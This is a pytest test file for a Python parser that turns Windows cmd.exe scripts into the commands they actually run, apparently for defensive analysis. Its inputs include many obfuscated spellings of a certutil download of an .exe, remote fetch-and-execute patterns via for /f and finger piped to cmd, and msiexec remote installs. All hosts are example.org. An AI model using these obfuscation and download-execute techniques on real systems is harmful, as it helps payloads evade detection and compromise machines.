"""cmd.exe texts into invocations."""

from __future__ import annotations

import pytest

from tidewaiter.reading import cmd
from tidewaiter.reading.budget import Budget
from tidewaiter.reading.invocation import Script, Word


def read(text: str, variables: dict[str, Word] | None = None) -> Script:
    return cmd.parse(text, Budget(cpu_seconds=5), variables)


def lines(text: str) -> list[str]:
    return [" ".join(word.text for word in item.argv) for item in read(text)]


FETCH = "certutil -urlcache -f https://example.org/p.exe p.exe"


@pytest.mark.parametrize(
    "text",
    [
        "c^e^rt^util -urlcache -f https://example.org/p.exe p.exe",
        'c""ertutil -ur"lcac"he -f https://example.org/p.exe p.exe',
        '"certutil" -urlcache -f "https://example.org/p.exe" p.exe',
        ";,=certutil -urlcache -f https://example.org/p.exe p.exe",
        "@certutil -urlcache ^\n-f https://example.org/p.exe p.exe",
        "set x=cert& call %x%util -urlcache -f https://example.org/p.exe p.exe",
        "set x=cert&&call %%X%%util -urlcache -f https://example.org/p.exe p.exe",
        'set "x=tutil"\ncer%x% -urlcache -f https://example.org/p.exe p.exe',
        "set a=xcertutilx&& !a:~1,-1! -urlcache -f https://example.org/p.exe p.exe",
        "set a=cQrtutil&call %a:Q=e% -urlcache -f https://example.org/p.exe p.exe",
        "cert%nothing%util -urlcache -f https://example.org/p.exe p.exe",
        'for /f "tokens=2 delims=;" %i in ("a;certutil;b") do %i -urlcache -f https://example.org/p.exe p.exe',
        "for /f %%i in ('echo certutil') do %%i -urlcache -f https://example.org/p.exe p.exe",
        "for %i in (certutil) do %~i -urlcache -f https://example.org/p.exe p.exe",
        "set s=tilucre&for %A in (4 6 5 0 3 0 1 2)do set f=!f!!s:~%A,1!&%f% -urlcache -f https://example.org/p.exe p.exe",
        "if 1==1 (certutil -urlcache -f https://example.org/p.exe p.exe) else (ver)",
        "call :get https://example.org/p.exe p.exe\nexit /b\n:get\ncertutil -urlcache -f %1 %~2\ngoto :eof",
        "f^or %i in (p) d^o certutil -urlcache -f https://example.org/%i.exe %i.exe",
        "rem certutil\n:: certutil\n(certutil -urlcache -f https://example.org/p.exe p.exe)",
        "set c=ver^&certutil -urlcache -f https://example.org/p.exe p.exe\n%c%",
    ],
)
def test_spellings_of_one_command(text: str) -> None:
    assert FETCH in lines(text)


def test_nothing_is_read_twice_or_from_comments() -> None:
    assert lines("rem curl a & curl b") == []
    assert lines(":: curl a") == []
    assert lines("call :s 1\nexit /b\n:s\ncurl %1\nexit /b") == ["curl 1"]
    assert lines("echo a ^& curl b") == ["echo a & curl b"]
    assert lines('echo "a & curl b"') == ['echo "a & curl b"']


def test_ordinary_variables_stay_as_spelled() -> None:
    (item,) = read("curl -o %TEMP%\\a.exe https://example.org/%USERNAME%")
    assert item.args == ("-o", "%TEMP%\\a.exe", "https://example.org/%USERNAME%")
    assert not item.argv[2].known


def test_constants_of_an_installation_spell_commands() -> None:
    (item,) = read("%ComSpec% /c dir")
    assert item.program == r"C:\Windows\system32\cmd.exe"
    assert item.args == ("/c", "dir")
    assert lines("%ComSpec:~-7,3% /c dir") == ["cmd /c dir"]
    assert lines("for /f \"delims=s\\ tokens=4\" %a in ('set^|findstr PSM') do %a -c ls")[0].lower().startswith("powershell")


def test_outer_variables_and_final_values() -> None:
    script = read("%A% https://example.org/x & set b=2", {"a": Word("curl")})
    assert script.invocations[0].program == "curl"
    assert script.variables["b"].text == "2"


def test_redirections_pipes_and_groups() -> None:
    first, second, third = read("(echo a & echo b) > f.txt 2>nul & type f.txt | cmd").invocations[:3]
    assert [(item.stdout.text, item.append) for item in (first, second) if item.stdout] == [("f.txt", False), ("f.txt", True)]
    assert third.stdout is None
    last = read("finger a@example.org | more +2 | cmd").invocations[-1]
    assert last.stdin[0].program == "more"
    assert last.stdin[0].stdin[0].program == "finger"
    (item,) = read('>>"C:\\a b.txt" echo hello 2>&1')
    assert item.stdout is not None and item.stdout.text == "C:\\a b.txt" and item.append
    assert item.argv[1].text == "hello"
    (echo,) = read("echo port 21>f.txt")
    assert echo.argv[1].text == "port 21"
    (sort,) = read("sort < in.txt")
    assert sort.stdin_file is not None and sort.stdin_file.text == "in.txt"


def test_constant_text_in_a_pipe() -> None:
    ftp = read("echo get a.txt | ftp ftp.example.org").invocations[-1]
    assert ftp.stdin_text == "get a.txt"
    prompt = read('<nul set /p="open ftp.example.org">s.txt').invocations[0]
    assert prompt.argv[1].text == "open ftp.example.org"
    assert prompt.stdout is not None


def test_output_of_a_command_is_content() -> None:
    fetch, shell = read("for /f \"delims=\" %i in ('curl -s https://example.org/a') do %i").invocations
    assert shell.program == "cmd"
    assert shell.argv[-1].content == (fetch,)
    copy = read("for /f %i in ('curl -s https://example.org/a') do @echo x%i>o.txt").invocations[-1]
    assert copy.argv[1].content and copy.argv[1].text == "x%i"


def test_counting_loops_are_unrolled_within_bounds() -> None:
    assert lines("for /l %i in (1,1,3) do curl %i") == ["curl 1", "curl 2", "curl 3"]
    assert len(lines("for /l %i in (1,1,500) do curl %i")) == 32
    assert lines("set /a p=8000+(2*40) & curl http://example.org:%p%/") == ["curl http://example.org:8080/"]


def test_a_remote_folder_is_put_before_names() -> None:
    assert "copy \\\\fs.example.org\\pub\\a.exe C:\\Temp" in lines("pushd \\\\fs.example.org\\pub & copy a.exe C:\\Temp & popd")
    assert "\\\\fs.example.org\\pub\\a.cmd" in lines("pushd \\\\fs.example.org\\pub && a.cmd")


def test_titles_and_glued_switches() -> None:
    assert lines('start "a title" /b curl x') == ["start /b curl x"]
    assert lines("copy/y a b") == ["copy /y a b"]
    assert lines("msiexec/q/i https://example.org/a.msi") == ["msiexec /q /i https://example.org/a.msi"]
    assert lines("echo.text") == ["echo text"]


@pytest.mark.parametrize(
    "text",
    [
        "(",
        ")",
        "((((",
        "if",
        "for %i in (",
        "for /f %i in ('",
        "a | | b",
        "&&",
        "%",
        "%%%",
        "!x",
        "set",
        'set "',
        "call",
        "^",
        ">",
        "<",
        "call :x",
        "wmic process call create (",
        "for /f %i in ('curl a') do \ue005%i",
    ],
)
def test_broken_texts_do_not_raise(text: str) -> None:
    assert isinstance(read(text), Script)


def test_hostile_texts_end_within_their_budget() -> None:
    for text in ("(" * 5_000, "%a:~1%" * 5_000, "set a=%a%%a%xx&" * 200, "for %i in (1 2 3 4 5 6 7 8) do " * 30 + "curl"):
        budget = Budget(cpu_seconds=0.2)
        assert isinstance(cmd.parse(text, budget), Script)
    growing = "set a=0123456789&" + "call set a=%a%%a%%a%%a%&" * 30
    budget = Budget(size=10_000)
    assert cmd.parse(growing, budget).complete is False
    assert budget.limits == ["unfolds to too much text"]
    call_itself = Budget()
    cmd.parse(":a\ncall :a\ncall :a", call_itself)
